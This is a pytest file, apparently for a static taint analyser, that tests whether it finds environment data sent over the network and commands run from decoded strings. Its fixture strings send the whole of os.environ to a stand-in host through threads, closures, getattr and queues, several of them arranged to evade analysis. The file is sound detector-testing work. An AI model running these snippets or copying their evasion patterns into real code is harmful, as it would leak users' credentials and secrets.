"""What is looked at again, and what is not: neither may lose what a program does."""

import pytest
from engine_flows import commands, flows

from ostiary.program.flow import Act, Taint

START = (
    "import os, threading, urllib.request as u\n"
    "def snd(d): u.urlopen('https://c.example.invalid/', data=d)\n"
)
_CLASS = "class A:\n    def __init__(self): self.box = None\n"
_GO = "threading.Thread(target={}).start()\n"

SEEN = {
    "attribute": _CLASS + "    def w(self): snd(self.box)\na = A()\n"
    f"{_GO.format('a.w')}a.box = dict(os.environ)",
    "by another method": _CLASS
    + "    def take(self): return self.box\n    def w(self): snd(self.take())\n"
    f"a = A()\n{_GO.format('a.w')}a.box = dict(os.environ)",
    "by its name": _CLASS + "    def w(self): snd(getattr(self, 'box'))\n"
    f"a = A()\n{_GO.format('a.w')}a.box = dict(os.environ)",
    "by a name that is worked out": _CLASS + "    def w(self): snd(getattr(self, 'bo' + 'x'))\n"
    f"a = A()\n{_GO.format('a.w')}a.box = dict(os.environ)",
    "in the class": "class A:\n    box = None\n    @staticmethod\n    def w(): snd(A.box)\n"
    f"{_GO.format('A.w')}A.box = dict(os.environ)",
    "of a global list": f"q = []\ndef w(): snd(q[0])\n{_GO.format('w')}q.append(dict(os.environ))",
    "handed on": f"q = []\ndef w(): v()\ndef v(): snd(q[0])\n{_GO.format('w')}q.append(dict(os.environ))",
    "among the globals": "q = []\ndef w(): snd(globals()['q'][0])\n"
    f"{_GO.format('w')}q.append(dict(os.environ))",
    "in a closure": "def m():\n    q = []\n    def w(): snd(q.pop())\n    "
    + _GO.format("w")
    + "    q.append(dict(os.environ))\nm()",
    "as a default": "q = []\ndef w(a=q): snd(a.pop())\n"
    f"{_GO.format('w')}q.append(dict(os.environ))",
    "as an argument": "def w(a): snd(a.pop())\nb = []\n"
    "threading.Thread(target=w, args=(b,)).start()\nb.append(dict(os.environ))",
    "behind an object": "import queue\nclass B: pass\nb = B(); b.q = queue.Queue()\n"
    f"def w(): snd(b.q.get())\n{_GO.format('w')}b.q.put(dict(os.environ))",
}
"""What a thread takes out that was put in after its start."""


@pytest.mark.parametrize("name", SEEN)
def test_a_thread_sees_what_is_put_in_after_its_start(name: str) -> None:
    found = flows(START + SEEN[name] + "\n", Act.SEND)
    assert any(one.has(Taint.ENVIRONMENT) for one in found)


def test_the_answer_of_a_call_of_constants_holds_while_its_names_do() -> None:
    kind = "def g(one): return '{}'\n"
    text = "import os\n" + kind.format("cat") + "def f(x): os.system(g('a'))\nf(1)\n"
    assert commands(text) == {"cat"}
    assert commands(text + kind.format("dog food") + "f(2)\n") == {"cat", "dog food"}


def test_a_function_that_keeps_a_state_is_run_each_time() -> None:
    text = (
        "import os\ni = 0\ndef f():\n    global i\n    i += 1\n    return ('ls', 'cat', 'dog')[i]\n"
        "os.system(f())\nos.system(f())\n"
    )
    assert {"cat", "dog"} <= commands(text)


def test_a_script_that_keeps_a_state_is_run_each_time() -> None:
    text = (
        "const c = require('child_process');\nlet i = 0;\n"
        "function f() { i += 1; return ['ls', 'cat', 'dog'][i]; }\nc.execSync(f());\nc.execSync(f());\n"
    )
    assert {"cat", "dog"} <= commands(text, "npm")


def test_a_loop_passes_over_what_is_unknown_and_not_over_what_is_known() -> None:
    text = (
        "import base64, os\nq = [a, b, c, d, e, 'cat', f, g, os.environ]\nbase64.b64decode('')\n"
        "for one in q:\n    os.system(one)\n"
    )
    found = flows(text, Act.RUN)
    assert "cat" in {one.text for one in found}
    assert any(one.has(Taint.ENVIRONMENT) for one in found)


def test_a_function_that_first_gives_nothing_known_may_still_decode() -> None:
    vague = "".join(f"f(x{place})\n" for place in range(30))
    text = (
        "import base64, os\ndef f(x):\n    return base64.b64decode(x)\n"
        + vague
        + "os.system(f('Y2F0'))\n"
    )
    assert "cat" in commands(text)


def test_what_a_function_reads_around_it_may_change() -> None:
    text = (
        "import os\nK = None\ndef g(): return K\ndef f(x): os.system(g() or 'ls')\nf(1)\n"
        "def put():\n    global K\n    K = repr(dict(os.environ))\nput()\nf(2)\n"
    )
    assert any(one.has(Taint.ENVIRONMENT) for one in flows(text, Act.RUN))
